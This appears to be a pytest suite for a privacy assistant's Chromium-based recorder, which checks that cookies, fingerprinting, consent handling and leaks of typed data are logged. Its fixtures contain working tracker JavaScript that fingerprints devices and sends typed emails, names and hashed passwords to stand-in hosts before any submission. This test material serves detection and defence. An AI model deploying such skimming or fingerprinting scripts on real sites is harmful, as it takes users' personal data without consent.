"""A real Chromium against invented sites: what they do stands in the record, and nothing else."""

from __future__ import annotations

import dataclasses
import json
import ssl
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import trustme

from assistant.browse import Browsed
from assistant.browse.aside import Aside
from assistant.errors import (
    BrowserMissing,
    ConnectionFailed,
    FetchTimeout,
    HttpStatusError,
    MissingDependency,
    RefusedAddress,
    UnknownHost,
    UnreadableInput,
)
from assistant.fetch.addresses import AddressGuard
from assistant.settings import Settings
from assistant.site.record.observation import (
    Channel,
    Encoding,
    FieldKind,
    ResourceType,
    Tls,
    Watched,
)
from assistant.site.record.reading import safe_observation
from tests.browse.stage import (
    NOW,
    QUICK,
    calls_of,
    look,
    plain,
    script,
    web_socket,
)
from tests.servers import Request, Response, Server, page, redirect

pytestmark = pytest.mark.browser

FORM = """
<form action="/send" method="post">
  <label>Your name <input name="fullname"></label>
  <input type="email" name="mail"><input type="password" name="pw">
  <input type="hidden" name="token" value="t0ken"><input style="display:none" name="trap">
  <button>Send</button>
</form>
"""
BUSY = """<!doctype html><title>Shop</title>
<body><a href="/privacy?v=2">Privacy Policy</a>{form}
<script src="http://tracker.test:{port}/t.js" integrity=""></script>
<iframe src="http://frames.test:{port}/frame"></iframe>
<script>localStorage.own = "set-without-a-call"; fetch("/stock", {{method: "PUT", body: "{{}}"}});
fetch("/told?gpc=" + navigator.globalPrivacyControl);
new Worker("/worker.js");
new Image().src = "http://tracker.test:{port}/hop?uid=4f9a8c1e77d2b3a6";</script>
</body>"""
TRACKER = """
const base = new URL(document.currentScript.src).origin;
document.cookie = "visitor=8c1e77d2b3a64f9a; max-age=99999999; path=/";
localStorage.setItem("deviceId", "8c1e77d2b3a64f9a");
sessionStorage.setItem("tabId", "x1");
indexedDB.open("ids").onupgradeneeded = (e) => {
  e.target.result.createObjectStore("kept").put({id: "8c1e77d2"}, 1);
};
const canvas = document.createElement("canvas");
const context = canvas.getContext("2d");
context.fillText("Cwm fjordbank glyphs vext quiz", 2, 2);
canvas.toDataURL();
for (let i = 0; i < 60; i += 1) { context.font = `12px Font${i}`; context.measureText("mmm"); }
const gl = document.createElement("canvas").getContext("webgl");
if (gl) { gl.getExtension("WEBGL_debug_renderer_info"); gl.getParameter(0x9246); }
const audio = new OfflineAudioContext(1, 400, 44100);
audio.createOscillator(); audio.createDynamicsCompressor(); audio.startRendering();
const told = [navigator.hardwareConcurrency, navigator.languages, screen.width,
  Intl.DateTimeFormat().resolvedOptions().timeZone, navigator.plugins.length];
for (const family of ["Arial", "Georgia"]) {
  const span = document.createElement("span");
  span.style.fontFamily = family; document.body.append(span); span.offsetWidth;
}
document.addEventListener("keydown", () => {});
window.addEventListener("mousemove", () => {});
const mail = document.querySelector("[type=email]");
mail.addEventListener("input", () => {});
const socket = new WebSocket(base.replace("http", "ws") + "/socket");
mail.addEventListener("blur", async () => {
  const value = mail.value;
  fetch(base + "/get?e=" + encodeURIComponent(btoa(JSON.stringify({ v: 1, mail: value }))));
  fetch(base + "/post", { method: "POST", mode: "no-cors", body: `{"e":"${value}"}` });
  navigator.sendBeacon(base + "/beacon", new Blob(["x=1&e=" + encodeURIComponent(value)]));
  if (socket.readyState === 1) socket.send("e:" + value.split("").reverse().join("") + "|" + value);
});
addEventListener("pagehide", () => {
  navigator.sendBeacon(base + "/leaving", document.querySelector("[name=fullname]").value);
});
"""
HASHES = """
const hash = async (text) => [...new Uint8Array(
  await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)),
)].map((byte) => byte.toString(16).padStart(2, "0")).join("");
document.querySelector("[name=pw]").addEventListener("change", async (e) => {
  const made = await hash(e.target.value);
  fetch("AWAY/h?p=" + made, { credentials: "include" });
  fetch("AWAY/j", { method: "POST", mode: "no-cors", body: btoa(JSON.stringify({ v: 2, made })) });
});
"""


@pytest.fixture(scope="module")
def busy() -> Iterator[tuple[Browsed, Server]]:
    """A page with a tracker that does everything, looked at once."""
    with Server({}) as server:
        away = server.url("", host="tracker.test")
        hop = f"http://partner.test:{server.port}/sync?id=4f9a8c1e77d2b3a6"
        server.answers.update(
            {
                "/": redirect("/hello"),
                "/hello": page('<meta http-equiv="refresh" content="0; url=/start">'),
                "/worker.js": script(f"fetch('{away}/worker', {{mode: 'no-cors'}})"),
                "/start": page(
                    BUSY.format(form=FORM, port=server.port),
                    set_cookie="basket=1; HttpOnly; SameSite=Lax",
                    referrer_policy="no-referrer",
                ),
                "/t.js": script(TRACKER, Set_Cookie="t=8c1e77d2b3a64f9a; Max-Age=100"),
                "/hop?uid=4f9a8c1e77d2b3a6": redirect(hop),
                "/frame": page("<script>navigator.platform; screen.height;</script>"),
                "/socket": web_socket,
            }
        )
        yield look(server), server


def test_the_record_can_be_read_as_any_other(busy: tuple[Browsed, Server]) -> None:
    seen, _ = busy

    read = safe_observation(seen.observation, now=NOW)

    assert seen.observation.watched == tuple(Watched)
    assert len(read.observation.visits) == len(seen.observation.visits) == 2
    assert len(read.observation.visits[0].requests) == len(plain(seen).requests)
    assert seen.observation.lost == 0


def test_the_page_and_the_way_there(busy: tuple[Browsed, Server]) -> None:
    seen, server = busy
    visit = plain(seen)

    assert visit.url == server.url("/start", host="shop.test")
    assert [(hop.url, hop.status, hop.by) for hop in visit.hops] == [
        (server.url("/", host="shop.test"), 302, "http"),
        (server.url("/hello", host="shop.test"), 200, "meta"),
    ]
    headers = {header.name: header.value for header in visit.headers}
    assert headers["referrer-policy"] == "no-referrer"
    assert "set-cookie" not in headers
    assert (visit.status, visit.tls) == (200, None)
    assert visit.policy_links == (server.url("/privacy?v=", host="shop.test"),)
    assert seen.policy_urls == (server.url("/privacy?v=2", host="shop.test"),)
    assert [s.src for s in visit.scripts if s.src] == [server.url("/t.js", host="tracker.test")]
    assert "Privacy Policy" in seen.html
    assert len(seen.sha256) == 64


def test_requests_with_who_made_them(busy: tuple[Browsed, Server]) -> None:
    seen, server = busy
    requests = {(r.url.partition("?")[0], r.method): r for r in plain(seen).requests}
    tracker = server.url("/t.js", host="tracker.test")
    start = server.url("/start", host="shop.test")

    loaded = requests[tracker, "GET"]
    assert (loaded.type, loaded.status, loaded.initiator) == (ResourceType.SCRIPT, 200, start)
    hop = requests[server.url("/hop", host="tracker.test"), "GET"]
    assert hop.redirects_to == server.url("/sync?id=", host="partner.test")
    assert (
        hop.query[0].value
        == requests[server.url("/sync", host="partner.test"), "GET"].query[0].value
    )
    stock = requests[server.url("/stock", host="shop.test"), "PUT"]
    assert stock.type is ResourceType.XMLHTTPREQUEST
    assert stock.body is not None
    assert "basket" in stock.cookies
    frame = requests[server.url("/frame", host="frames.test"), "GET"]
    assert (frame.type, frame.frame) == (ResourceType.SUB_FRAME, None)
    beacon = requests[server.url("/beacon", host="tracker.test"), "POST"]
    assert (beacon.type, beacon.initiator) == (ResourceType.PING, tracker)
    socket = next(r for r in plain(seen).requests if r.type is ResourceType.WEBSOCKET)
    assert (socket.status, socket.initiator) == (101, tracker)
    assert (server.url("/worker", host="tracker.test"), "GET") in requests


def test_what_was_kept_and_by_whom(busy: tuple[Browsed, Server]) -> None:
    seen, server = busy
    visit = plain(seen)
    tracker = server.url("/t.js", host="tracker.test")
    cookies = {cookie.name: cookie for cookie in visit.cookies}
    storage = {(w.store, w.key): w for w in visit.storage}

    assert "t" not in cookies  # a browser does not keep it without SameSite=None
    assert cookies["basket"].http_only
    assert (cookies["basket"].domain, cookies["basket"].same_site) == ("shop.test", "Lax")
    assert (cookies["visitor"].script, cookies["visitor"].domain) == (tracker, "shop.test")
    assert cookies["visitor"].lifetime_s == 400 * 86_400
    device = storage["local", "deviceId"]
    assert (device.script, device.value) == (tracker, cookies["visitor"].value)
    assert storage["session", "tabId"].script == tracker
    assert storage["indexed_db", "kept"].script == tracker
    assert storage["local", "own"].value.length == len("set-without-a-call")


def test_what_tells_devices_apart(busy: tuple[Browsed, Server]) -> None:
    seen, _ = busy
    made = next(c for c in plain(seen).calls if c.script.endswith("/t.js"))

    assert made.frame is None
    assert made.canvas_text == len(set("Cwm fjordbank glyphs vext quiz"))
    assert made.canvas_pixels == 300 * 150
    assert made.fonts == 62
    assert made.calls["CanvasRenderingContext2D.measureText"] == 60
    for member in (
        "HTMLCanvasElement.toDataURL",
        "OfflineAudioContext.constructor",
        "OfflineAudioContext.startRendering",
        "BaseAudioContext.createOscillator",
        "BaseAudioContext.createDynamicsCompressor",
        "Navigator.hardwareConcurrency",
        "Navigator.languages",
        "Navigator.plugins",
        "Screen.width",
        "DateTimeFormat.resolvedOptions",
        "WebGLRenderingContext.getParameter",
        "WebGLRenderingContext.getExtension",
        "WEBGL_debug_renderer_info.UNMASKED_RENDERER_WEBGL",
    ):
        assert made.calls[member] == 1, member
    framed = next(c for c in plain(seen).calls if c.frame is not None)
    assert framed.frame == framed.script
    assert framed.script.endswith("/frame")
    assert framed.calls == {"Navigator.platform": 1, "Screen.height": 1}


def test_a_frame_that_cannot_be_loaded_is_nobodys_script() -> None:
    html = '<!doctype html><title>x</title><iframe src="http://127.0.0.1:9/gone"></iframe>'
    with Server({"/": page(html)}) as server:
        visit = plain(look(server))
    assert "http://127.0.0.1:9/gone" in [request.url for request in visit.requests]
    assert (visit.calls, visit.listeners, visit.reads) == ((), (), ())


def test_listeners_and_reads(busy: tuple[Browsed, Server]) -> None:
    seen, server = busy
    tracker = server.url("/t.js", host="tracker.test")

    heard = {(n.script, n.event, n.target) for n in plain(seen).listeners}

    assert heard == {
        (tracker, "keydown", "document"),
        (tracker, "mousemove", "window"),
        (tracker, "input", FieldKind.EMAIL),
    }
    assert {(r.script, r.field) for r in plain(seen).reads} == {
        (tracker, FieldKind.EMAIL),
        (tracker, FieldKind.NAME),
    }


def test_typed_values_that_left_without_being_sent(busy: tuple[Browsed, Server]) -> None:
    seen, server = busy
    visit = plain(seen)

    leaks = {
        (leak.field, leak.channel, leak.encodings, leak.url.rpartition("/")[2])
        for leak in visit.leaks
    }

    assert visit.typed
    assert leaks == {
        (FieldKind.EMAIL, Channel.GET, (Encoding.BASE64,), "get?e="),
        (FieldKind.EMAIL, Channel.POST, (Encoding.PLAIN,), "post"),
        (FieldKind.EMAIL, Channel.BEACON, (Encoding.URL,), "beacon"),
        (FieldKind.EMAIL, Channel.WEBSOCKET, (Encoding.PLAIN,), "socket"),
        (FieldKind.NAME, Channel.BEACON, (Encoding.PLAIN,), "leaving"),
    }
    assert not any(leak.submitted for leak in visit.leaks)
    assert not any(request.target == "/send" for request in server.requests)


def test_no_value_is_in_the_record(busy: tuple[Browsed, Server]) -> None:
    seen, _ = busy
    text = json.dumps(dataclasses.asdict(seen.observation), default=str)

    for value in ("example.com", "8c1e77d2b3a64f9a", "4f9a8c1e77d2b3a6", "set-without-a-call"):
        assert value not in text


def test_global_privacy_control_is_sent_and_told_to_scripts(busy: tuple[Browsed, Server]) -> None:
    seen, server = busy

    assert [visit.gpc for visit in seen.observation.visits] == [False, True]
    sent = {r.target: r.headers.get("sec-gpc") for r in server.requests if "/told" in r.target}
    assert sent == {"/told?gpc=undefined": None, "/told?gpc=true": "1"}
    assert {r.headers.get("sec-gpc") for r in server.requests if r.target == "/t.js"} == {None, "1"}


@pytest.fixture
def own_temporary(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder for temporary files of one test; its name is short, as Chromium needs."""
    with tempfile.TemporaryDirectory(prefix="t") as folder:
        monkeypatch.setenv("TMPDIR", folder)
        monkeypatch.setattr(tempfile, "tempdir", folder)
        yield Path(folder)


def test_a_clean_page_gives_an_empty_record_and_leaves_nothing_on_disk(
    own_temporary: Path,
) -> None:
    """Nor is a dialog about something else one about consent, nor a page about cookies."""
    html = f"""<!doctype html><title>Clean</title><h1>Hello</h1>{FORM}
    <div role="dialog">Delete this file?<button>OK</button><button>Cancel</button></div>
    <article class="cookie-recipes">Cookies with chocolate.<a href="/more">More</a></article>"""
    with Server({"/": page(html)}) as server:
        seen = look(server)
    left = sorted(own_temporary.iterdir())

    for visit in seen.observation.visits:
        assert {r.url.rpartition("/")[2] for r in visit.requests} <= {"", "favicon.ico"}
        assert not (visit.cookies or visit.storage or visit.calls or visit.listeners)
        assert not (visit.reads or visit.leaks or visit.consent or visit.hops or visit.scripts)
    assert plain(seen).typed
    assert seen.observation.lost == 0
    assert [gap.what for gap in seen.gaps] == ["Whether tracking stops when you refuse"]
    assert left == []


# Consent --------------------------------------------------------------------------------

TRACK = "<script>fetch('/track?' + (localStorage.choice ?? 'none'))</script>"
BANNER = """<div id="onetrust-banner-sdk" style="position:fixed;bottom:0">We use cookies.
<button id="onetrust-accept-btn-handler">Accept All</button>
{reject}</div>"""
REFUSE = """<button id="onetrust-reject-all-handler"
 onclick="localStorage.choice = 'no'; this.parentNode.remove()">Reject All</button>"""
HIDE = "<script>if (localStorage.choice) document.querySelector('{}').remove()</script>"
GENERIC = """<div class="cookie-box"><p>Wir verwenden Cookies für Werbung.</p>
<a href="#" onclick="localStorage.choice = 'no'; this.parentNode.remove(); return false">
Alle ablehnen</a><button>Alle akzeptieren</button></div>"""
SHADOW = """<div id="usercentrics-root"></div><script>
const root = document.querySelector("#usercentrics-root").attachShadow({ mode: "open" });
root.innerHTML = `<div>Cookies and more.<button data-testid="uc-accept-all-button">OK</button>
<button data-testid="uc-deny-all-button">Deny</button></div>`;
root.querySelector("[data-testid=uc-deny-all-button]").onclick = () => {
  localStorage.choice = "no"; root.host.remove();
};</script>"""
FRAMED = """<iframe src="/notice" style="position:fixed;top:90px;left:70px;width:500px"></iframe>
<script>onmessage = (e) => {
  localStorage.choice = e.data; document.querySelector("iframe").remove();
};
</script>"""
NOTICE = """<div class="message type-modal">We and our 214 partners use cookies.
<button class="sp_choice_type_11">Agree</button>
<button class="sp_choice_type_13"
 onclick="parent.postMessage('no', '*')">Reject all</button></div>"""


@pytest.mark.parametrize(
    ("html", "manager"),
    [
        pytest.param(BANNER.format(reject=REFUSE), "OneTrust", id="known"),
        pytest.param(GENERIC, None, id="unknown-german"),
        pytest.param(SHADOW, "Usercentrics", id="shadow-root"),
        pytest.param(FRAMED, "Sourcepoint", id="frame"),
    ],
)
def test_refusing_and_what_still_happens_after_it(html: str, manager: str | None) -> None:
    with Server({"/": page(html + TRACK), "/notice": page(NOTICE)}) as server:
        seen = look(server)

    assert [v.choice for v in seen.observation.visits] == [None, None, None, "rejected"]
    for visit in seen.observation.visits[:3]:
        assert visit.consent[0].state == "asked"
        assert (visit.consent[0].manager, visit.consent[0].reject_offered) == (manager, True)
    refusing = seen.observation.visits[2]
    assert [(step.state, step.clicks) for step in refusing.consent[1:]] == [("rejected", 1)]
    assert refusing.consent[1].at_ms > refusing.consent[0].at_ms > 0
    assert [r.target for r in server.requests if "track" in r.target] == [
        "/track?none",
        "/track?none",
        "/track?none",
        "/track?no",
    ]
    assert any("/track" in request.url for request in seen.observation.visits[3].requests)


@pytest.mark.parametrize(
    ("html", "pays"),
    [
        pytest.param(BANNER.format(reject="<button>Settings</button>"), False, id="accept-only"),
        pytest.param(
            BANNER.format(reject="<a href=/abo>Jetzt abonnieren: ohne Werbung</a>"),
            True,
            id="pay-or-consent",
        ),
    ],
)
def test_a_dialog_without_a_refusal_is_told_and_left_alone(html: str, pays: bool) -> None:
    with Server({"/": page(html)}) as server:
        seen = look(server)

    assert len(seen.observation.visits) == 2
    step = plain(seen).consent[0]
    assert (step.reject_offered, step.pay_or_consent, step.manager) == (False, pays, "OneTrust")
    assert any("no button that refuses" in gap.why for gap in seen.gaps)


# Pages that make it hard ---------------------------------------------------------------------


def test_a_page_that_looks_at_what_watches_it() -> None:
    """It finds native functions, no binding, and what it replaces still works and is watched."""
    html = """<script>
    const said = [];
    const text = Function.prototype.toString;
    said.push(HTMLCanvasElement.prototype.toDataURL.toString());
    said.push(text.call(text));
    said.push(text.call(Object.getOwnPropertyDescriptor(Document.prototype, "cookie").set));
    said.push(HTMLCanvasElement.prototype.toDataURL.name);
    said.push(String(Object.getOwnPropertyNames(window).filter((n) => /^_[0-9a-f]{32}$/.test(n))));
    said.push(String(typeof install));
    const add = EventTarget.prototype.addEventListener;
    EventTarget.prototype.addEventListener = function (...all) { return add.apply(this, all); };
    Function.prototype.toString = function () { return "mine"; };
    Error.prepareStackTrace = () => "nothing";
    Object.prototype.toJSON = () => "spoilt";
    Array.prototype.push = function () { throw new Error("no"); };
    JSON.stringify = () => "spoilt";
    document.addEventListener("keydown", () => {});
    document.createElement("canvas").toDataURL();
    document.cookie = "late=1";
    fetch("/said", { method: "POST", body: said.join("\\u0001") });
    fetch("/kept?" + (new Error().stack === "nothing"));
    </script>"""
    with Server({"/": page(html)}) as server:
        seen = look(server)

    visit = plain(seen)
    body = next(r.body for r in visit.requests if r.url.endswith("/said"))
    native = "function {}() {{ [native code] }}".format
    expected = "\x01".join(
        [
            native("toDataURL"),
            native("toString"),
            native("set cookie"),
            "toDataURL",
            "",
            "undefined",
        ]
    )
    assert body is not None
    assert body.size == len(expected)
    assert any(request.target == "/kept?true" for request in server.requests)
    assert calls_of(visit, "/")["HTMLCanvasElement.toDataURL"] == 1
    assert ("keydown", "document") in {(n.event, n.target) for n in visit.listeners}
    assert "late" in {cookie.name for cookie in visit.cookies}


def test_a_strict_policy_does_not_blind_the_record() -> None:
    strict = "default-src 'none'; script-src 'self'; require-trusted-types-for 'script'"
    html = (
        f"<h1>Strict</h1>{FORM}<img src='http://other.test/x.png'><script src='/own.js'></script>"
    )
    own = "document.addEventListener('keyup', () => {}); navigator.languages;"
    with Server(
        {"/": page(html, content_security_policy=strict), "/own.js": script(own)}
    ) as server:
        visit = plain(look(server))

    assert visit.typed
    assert calls_of(visit, "/own.js") == {"Navigator.languages": 1}
    assert [(n.event, n.target) for n in visit.listeners] == [("keyup", "document")]
    assert [r.blocked for r in visit.requests if "other.test" in r.url] in ([True], [])


def test_alerts_windows_empty_frames_and_reaching_inside() -> None:
    """A page that takes clean functions out of an empty frame takes watched ones."""
    html = """<iframe srcdoc="<script>screen.colorDepth</script>"></iframe><script>
    alert("hello"); confirm("sure?");
    onbeforeunload = (e) => {{ e.preventDefault(); return "stay"; }};
    window.open("/popup");
    const a = document.createElement("a"); a.href = "/file"; a.download = "f"; a.click();
    const frame = document.createElement("iframe");
    document.documentElement.append(frame);
    frame.contentDocument.createElement("canvas").toDataURL();
    frame.contentWindow.navigator.hardwareConcurrency;
    frame.remove();
    fetch("{inside}", {{ mode: "no-cors" }});
    new Image().src = "{inside}";
    </script>"""
    download = Response(b"x", headers={"Content-Disposition": "attachment; filename=f"})
    with Server({}) as inside, Server({"/popup": page("popup"), "/file": download}) as server:
        server.answers["/"] = page(html.format(inside=inside.url("/secret")))
        outside = f"--ip-address-space-overrides=127.0.0.1:{server.port}=public"
        seen = look(server, arguments=(outside,))
        reached = list(inside.requests)

    assert len(seen.observation.visits) == 2
    assert calls_of(plain(seen), "/") == {
        "HTMLCanvasElement.toDataURL": 1,
        "Navigator.hardwareConcurrency": 1,
        "Screen.colorDepth": 1,
    }
    assert any("closed without being looked at" in gap.why for gap in seen.gaps)
    assert reached == []


def test_a_page_that_never_ends_and_one_that_never_answers_again() -> None:
    with Server({}) as server:
        parts = [b"<!doctype html><script>navigator.languages</script>"]
        server.answers["/"] = lambda _: Response(
            (part for source in (parts, server.drip(b"<p>more")) for part in source),
            headers={"Content-Type": "text/html"},
        )
        endless = look(server, pace=dataclasses.replace(QUICK, ready=1.0, settle=0.6, total=6.0))
        assert calls_of(plain(endless), "/") == {"Navigator.languages": 1}

        server.answers["/busy"] = page(
            "<script>navigator.languages; setTimeout(() => { for (;;) {} }, 300)</script>"
        )
        stuck = look(server, "/busy", pace=dataclasses.replace(QUICK, total=7.0))
    assert calls_of(plain(stuck), "/busy") == {"Navigator.languages": 1}
    assert any("kept the browser so busy" in gap.why or "longer" in gap.why for gap in stuck.gaps)


def test_a_page_that_floods_is_bounded_and_its_loss_is_told() -> None:
    html = """<script>for (let i = 0; i < 6000; i += 1) {
      document.cookie = "c" + i + "=" + i; localStorage.setItem("k" + i, "v" + i);
    }
    document.addEventListener("keydown", () => {}); navigator.languages;</script>"""
    with Server({"/": page(html)}) as server:
        seen = look(server)

    assert len(plain(seen).cookies) + len(plain(seen).storage) <= 8_000
    assert [n.event for n in plain(seen).listeners] == ["keydown"]
    assert calls_of(plain(seen), "/") == {"Navigator.languages": 1}
    assert seen.observation.lost > 0


def test_a_tab_that_breaks_down_is_told_with_what_was_seen(monkeypatch: pytest.MonkeyPatch) -> None:
    async def crash(_page: object, aside: Aside, *_more: object) -> None:
        await aside.session.send("Page.crash")

    monkeypatch.setattr("assistant.browse.observe.type_into", crash)
    with Server({"/": page("<script>navigator.languages</script>")}) as server:
        seen = look(server)

    assert calls_of(plain(seen), "/") == {"Navigator.languages": 1}
    assert any("crashed" in gap.why for gap in seen.gaps)
    assert seen.observation.lost > 0


# Connections and refusals -----------------------------------------------------------------------


def test_a_certificate_that_nobody_vouches_for_is_told() -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    trustme.CA().issue_cert("shop.test", "stats.test").configure_cert(context)
    with Server({}, ssl_context=context) as server:
        away = server.url("/s.gif", host="stats.test")
        code = HASHES.replace("AWAY", server.url("", host="stats.test"))
        server.answers["/"] = page(f"<img src='{away}'>{FORM}<script>{code}</script>")
        server.answers["/s.gif"] = Response(
            b"GIF89a", headers={"Set-Cookie": "uid=8c1e77d2b3a6; SameSite=None; Secure; Path=/"}
        )
        wrong = look(server, pace=dataclasses.replace(QUICK, total=20.0))
        right = look(server, arguments=("--ignore-certificate-errors",))

    assert plain(wrong).tls == Tls(valid=False, version="TLSv1.3")
    assert plain(right).tls == Tls(valid=True, version="TLSv1.3")
    leaks = {(leak.field, leak.channel, leak.encodings) for leak in plain(right).leaks}
    assert leaks == {
        (FieldKind.PASSWORD, Channel.GET, (Encoding.SHA256,)),
        (FieldKind.PASSWORD, Channel.POST, (Encoding.SHA256, Encoding.BASE64)),
    }
    cookie = next(c for c in plain(right).cookies if c.name == "uid")
    assert (cookie.domain, cookie.same_site, cookie.secure) == ("stats.test", "None", True)
    assert [r.cookies for r in plain(right).requests if "/h?" in r.url] == [("uid",)]


def test_pages_that_cannot_be_opened() -> None:
    gone = AddressGuard(allow_addresses=("127.0.0.0/8",), resolve=lambda _h, _p: [])
    pdf = Response(b"%PDF-1.4", headers={"Content-Type": "application/json"})
    with Server({"/file": pdf, "/never": Response(raw=[])}) as server:
        with pytest.raises(HttpStatusError) as refusal:
            look(server, "/nothing")
        with pytest.raises(UnreadableInput):
            look(server, "/file")
        with pytest.raises(UnknownHost):
            look(server, guard=gone)
        port = server.port
    assert refusal.value.status == 404
    closed = Server({})
    closed._http.server_close()
    with pytest.raises(ConnectionFailed):
        look(closed)
    assert port


def test_a_server_that_says_nothing_is_given_up() -> None:
    def nothing(_: Request) -> Response:
        return Response(raw=slow)

    with Server({"/": nothing}) as server:
        slow = (part for part in server.drip(b"", every_s=0.2))
        with pytest.raises(FetchTimeout):
            look(server, pace=dataclasses.replace(QUICK, load=1.5))


def test_private_addresses_are_not_visited_even_after_a_redirect() -> None:
    named = {"shop.test": "203.0.113.5", "inside.test": "127.0.0.1"}
    guard = AddressGuard(resolve=lambda host, _: [named[host]])
    with Server({}) as server:
        with pytest.raises(RefusedAddress):
            look(server, host="inside.test", guard=guard)
        assert server.requests == []

        server.answers["/"] = redirect(server.url("/secret", host="inside.test"))
        allowed = AddressGuard(
            allow_addresses=("203.0.113.0/24",), resolve=lambda host, _: [named[host]]
        )
        with pytest.raises(RefusedAddress):
            look(server, guard=allowed)
        assert not any(request.target == "/secret" for request in server.requests)


def test_a_browser_that_is_not_there(tmp_path: Path) -> None:
    with Server({"/": page("x")}) as server, pytest.raises(BrowserMissing):
        look(server, settings=Settings(browser_path=tmp_path / "chromium"))


def test_a_computer_without_any_browser(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr("shutil.which", lambda _name: None)
    monkeypatch.setenv("PLAYWRIGHT_BROWSERS_PATH", str(tmp_path))
    with Server({"/": page("x")}) as server, pytest.raises(BrowserMissing) as refusal:
        look(server)
    assert "browser_path" in refusal.value.hint


def test_an_installation_without_playwright(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "playwright.async_api", None)
    with Server({"/": page("x")}) as server, pytest.raises(MissingDependency) as refusal:
        look(server)
    assert "privacy-assistant[browser]" in refusal.value.hint
